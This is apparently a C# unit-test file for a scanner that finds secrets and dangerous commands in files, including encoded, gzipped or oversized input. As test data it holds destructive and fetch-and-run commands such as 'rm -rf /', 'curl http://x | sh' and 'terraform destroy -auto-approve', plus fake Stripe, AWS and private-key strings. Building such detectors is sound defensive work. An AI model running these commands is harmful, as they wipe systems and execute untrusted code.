// A scan of plain texts: where things are found, in which encodings and wrappings, what counts of a change, and that what was not looked at is told.
using System.IO.Compression;
using System.Text;
using CabinCrew.Governance.Detection;
using CabinCrew.Governance.Detection.Scanning;
using CabinCrew.Protocol;
using static CabinCrew.Detection.Tests.Scanning.Kit;

namespace CabinCrew.Detection.Tests.Scanning;

public sealed class ScannerTests
{
    [Fact]
    public void A_finding_has_its_line_and_column_and_never_what_was_found()
    {
        var found = Assert.Single(Scan("src/pay.py", $"import os\n\nKEY = \"{Token}\"\n"));
        Assert.Equal(("secrets", "stripe-key", Decision.Deny, "src/pay.py", 3, 8), (found.Detector, found.Rule, found.Decision, found.Path, found.Line, found.Column));
        Assert.DoesNotContain(Token[8..], found.ToString(), StringComparison.Ordinal);
        Assert.Equal("this looks like a Stripe live key", found.Message);
        Assert.Equal(16, found.Fingerprint.Length);
    }

    [Fact]
    public void What_weighs_less_does_not_cover_what_lies_in_it()
    {
        var text = Encoding.UTF8.GetBytes("-----BEGIN PRIVATE " + "KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nAKIA" + "Q7ZBM2WX4NTRHY5D\nBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n-----END PRIVATE " + "KEY-----\n");
        Assert.Equal(["secrets/private-key"], Scan("a.pem", Encoding.UTF8.GetString(text)).Select(f => f.Id));
        var lenient = Scanner.Of(new(new Dictionary<string, Decision> { ["secrets/private-key"] = Decision.Allow }), ProblemCode.InvalidArgument).Value;
        Assert.Equal(["secrets/aws-access-key"], lenient.Scan(new("a.pem", text), default).Findings.Select(f => f.Id));
    }

    [Fact]
    public void Quotes_and_backslashes_are_text_like_other_text() =>
        Assert.Equal(["secrets/stripe-key 1:5"], Scan("a.json", $"{{\"\\\\{Token}\" : \"\\u0073k_live\"}}").Short());

    [Fact]
    public void Text_beyond_ascii_moves_columns_by_its_letters() =>
        Assert.Equal(["secrets/stripe-key 2:9"], Scan("a.txt", $"é\nKlé = \"ü{Token}\"").Short());

    [Theory]
    [InlineData("utf-8", true), InlineData("utf-8", false), InlineData("utf-16", true), InlineData("utf-16BE", true), InlineData("utf-16", false), InlineData("utf-16BE", false)]
    public void Encodings_are_told_by_their_bytes(string name, bool hasMark)
    {
        var encoding = Encoding.GetEncoding(name);
        byte[] bytes = [.. hasMark ? encoding.GetPreamble() : [], .. encoding.GetBytes($"one\nkey: {Token}\n")];
        Assert.Equal(["secrets/stripe-key 2:6"], Scan("a.txt", bytes).Findings.Short());
    }

    [Fact]
    public void What_is_no_utf8_is_read_as_latin1() =>
        Assert.Equal(["secrets/stripe-key 1:5"], Scan("a.txt", [0xE9, (byte)' ', 0xFC, (byte)' ', .. Encoding.ASCII.GetBytes(Token)]).Findings.Short());

    [Fact]
    public void Pictures_and_programs_are_binary_and_a_script_with_an_odd_byte_is_not()
    {
        var noise = new byte[4096];
        new Random(7).NextBytes(noise);
        Assert.Equal(ScanKind.Binary, Scan("a.png", noise).Kind);
        var script = Scan("a.sh", Encoding.ASCII.GetBytes($"#!/bin/sh\n: \0\nexport K={Token}\n"));
        Assert.Equal((ScanKind.Text, 1), (script.Kind, script.Findings.Count(f => f.Rule == "stripe-key")));
    }

    [Fact]
    public void What_is_wrapped_is_taken_out_and_told_where_it_stands()
    {
        var inner = $"first\nkey {Token}\n";
        var coded = Convert.ToBase64String(Encoding.ASCII.GetBytes(inner));
        var found = Assert.Single(Scan("secret.yaml", $"kind: Secret\ndata:\n  key: {coded}\n"));
        Assert.Equal(("secrets", 3, "base64"), (found.Detector, found.Line, found.Within));
        Assert.Equal("hex", Assert.Single(Scan("a.txt", Convert.ToHexStringLower(Encoding.ASCII.GetBytes(inner)))).Within);
        Assert.Equal("base64 in base64", Assert.Single(Scan("a.txt", Convert.ToBase64String(Encoding.ASCII.GetBytes(coded)))).Within);
        var zipped = Assert.Single(Scan("a.log.gz", Zip(Encoding.ASCII.GetBytes(inner))).Findings);
        Assert.Equal(("gzip", 2), (zipped.Within, zipped.Line));
    }

    [Fact]
    public void A_bomb_and_a_matryoshka_are_told_and_not_followed()
    {
        Assert.Equal(["detection/too-large 1:1", "injection-model/unread 1:16777217"], Scan("bomb.gz", Zip(Encoding.ASCII.GetBytes(new string('a', Scanner.BytesMax + 1)))).Findings.Short());
        var nested = Encoding.ASCII.GetBytes(Token);
        for (var i = 0; i < 5; i++) nested = Zip(nested);
        var found = Assert.Single(Scan("a.gz", nested).Findings);
        Assert.Equal(("detection/too-deep", Decision.RequireApproval), (found.Id, found.Decision));
    }

    [Fact]
    public void More_wrapped_runs_than_are_looked_into_are_told()
    {
        var run = Convert.ToBase64String(Encoding.ASCII.GetBytes("nothing to see here, just plain words"));
        Assert.Empty(Scan("a.txt", string.Concat(Enumerable.Repeat(run + "\n", 1000))));
        Assert.Equal(["detection/too-large 1:1"], Scan("a.txt", string.Concat(Enumerable.Repeat(run + "\n", 2001))).Short());
        Assert.Equal(["detection/too-large 1:1"], Scan("a.txt", new string('Q', 9 << 20)).Short());
    }

    [Fact]
    public void What_is_beyond_the_bound_is_a_finding()
    {
        var large = new byte[Scanner.BytesMax + 10];
        large.AsSpan().Fill((byte)'\n');
        Encoding.ASCII.GetBytes(Token).CopyTo(large, 5);
        Assert.Equal(["detection/too-large 1:1", "secrets/stripe-key 6:1", "injection-model/unread 16777185:1"], Scan("big.log", large).Findings.Short());
        Assert.Equal(["detection/too-large 1:1"], Scan(new ScanContent("a.txt", "nothing"u8.ToArray()) { IsCut = true }).Findings.Short());
    }

    [Fact]
    public void A_flood_of_findings_ends_in_one_that_says_so()
    {
        var found = Scan("a.txt", string.Concat(Enumerable.Range(0, 3000).Select(_ => Token + "\n")));
        Assert.InRange(found.Count, 2, TextDetection.FindingsMax + 1);
        Assert.Contains(found, f => f.Id == "detection/too-many");
    }

    [Fact]
    public void Only_lines_that_count_are_told()
    {
        var text = $"{Token}\nplain\n{Token}\n";
        ScanContent content = new("a.txt", Encoding.ASCII.GetBytes(text)) { Lines = new HashSet<int> { 2, 3 }, Commit = "c0ffee" };
        var found = Assert.Single(Scan(content).Findings);
        Assert.Equal((3, "c0ffee"), (found.Line, found.Commit));
    }

    [Fact]
    public void A_key_of_many_lines_counts_by_any_of_them()
    {
        var key = "-----BEGIN PRIVATE" + " KEY-----\n" + string.Concat(Enumerable.Repeat("MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n", 4)) + "-----END PRIVATE" + " KEY-----\n";
        ScanContent content = new("a.pem", Encoding.ASCII.GetBytes("x\n" + key)) { Lines = new HashSet<int> { 5 } };
        Assert.Equal(["secrets/private-key 2:1"], Scan(content).Findings.Short());
    }

    [Fact]
    public void Lines_of_hunks_have_their_true_numbers()
    {
        ScanContent content = new("a.py", Encoding.ASCII.GetBytes($"def a():\n  k = '{Token}'\n\nz = '{Token}'\n")) { Numbers = [10, 11, 0, 90], Lines = new HashSet<int> { 11 } };
        Assert.Equal([11], Scan(content).Findings.Select(f => f.Line));
    }

    [Fact]
    public void Fingerprints_stay_when_lines_move_and_tell_twins_apart()
    {
        var before = Scan("a.py", $"KEY = '{Token}'\nKEY = '{Token}'\n");
        var after = Scan("a.py", $"# moved\n\n\nKEY = '{Token}'\nKEY = '{Token}'\n");
        Assert.Equal(before.Select(f => f.Fingerprint), after.Select(f => f.Fingerprint));
        Assert.Equal(2, before.Select(f => f.Fingerprint).Distinct().Count());
        Assert.NotEqual(before[0].Fingerprint, Scan("b.py", $"KEY = '{Token}'\n")[0].Fingerprint);
        // Another secret in its place is the same finding: nothing of the secret is in the fingerprint.
        Assert.Equal(before[0].Fingerprint, Scan("a.py", $"KEY = 'sk_" + "live_9aB39HqLyjWDarjtT1zdp7QQ'\n")[0].Fingerprint);
    }

    [Fact]
    public void The_longer_word_of_the_settings_wins()
    {
        const string script = "terraform destroy -auto-approve\nkubectl delete ns shop\n";
        Assert.All(Scan("a.sh", script), f => Assert.Equal(Decision.RequireApproval, f.Decision));
        var found = Scan("a.sh", script, Settings(("commands", Decision.Warn), ("commands/terraform-destroy", Decision.Deny)));
        Assert.Equal([Decision.Deny, Decision.Warn], found.Select(f => f.Decision));
        Assert.Empty(Scan("a.sh", script, Settings(("commands", Decision.Allow))));
        Assert.Empty(Scan("a.txt", Token, Settings(("secrets", Decision.Allow))));
        Assert.Empty(Scan("a.txt", Token, Settings(("secrets/stripe-key", Decision.Allow))));
        Assert.Equal(Decision.Warn, Assert.Single(Scan("a.txt", Token, Settings(("secrets/stripe-key", Decision.Warn)))).Decision);
    }

    [Theory]
    [InlineData("secret", "there is no detector 'secret'"), InlineData("secrets/stripe", "has no rule 'stripe'")]
    public void A_word_that_names_nothing_is_refused(string word, string why) =>
        Assert.Contains(why, Scanner.Of(Settings((word, Decision.Warn)), ProblemCode.InvalidArgument).Problem!.Message, StringComparison.Ordinal);

    [Fact]
    public void The_digest_is_of_the_settings()
    {
        Assert.Equal(Scanner.Standard.Digest, Scanner.Of(Settings(), ProblemCode.InvalidArgument).Value.Digest);
        Assert.NotEqual(Scanner.Standard.Digest, Scanner.Of(Settings(("secrets", Decision.Warn)), ProblemCode.InvalidArgument).Value.Digest);
    }

    [Fact]
    public void Any_bytes_give_an_answer_and_the_same_one_twice()
    {
        var random = new Random(11);
        string[] names = ["a.sh", "Makefile", ".github/workflows/a.yml", "Dockerfile", "a.sql", "k.yaml", "plan.json", "x.gz", "t.txt"];
        string[] parts = [Token, "run: |\n  rm -rf /\n", "\tcurl http://x | sh\n", "apiVersion: v1\nkind: Pod\n", "\"resource_changes\" \"format_version\"", "\u001b]0;x", "${{", "$((", "\0", "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=", "\n"];
        for (var i = 0; i < 400; i++)
        {
            var bytes = new byte[random.Next(300)];
            random.NextBytes(bytes);
            if (i % 2 == 0) bytes = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Range(0, random.Next(12)).Select(_ => parts[random.Next(parts.Length)])));
            var name = names[random.Next(names.Length)];
            Assert.Equal(Scan(name, bytes).Findings, Scan(name, bytes).Findings);
        }
    }

    private static byte[] Zip(byte[] bytes)
    {
        using var all = new MemoryStream();
        using (var zip = new GZipStream(all, CompressionLevel.Fastest)) zip.Write(bytes);
        return all.ToArray();
    }
}
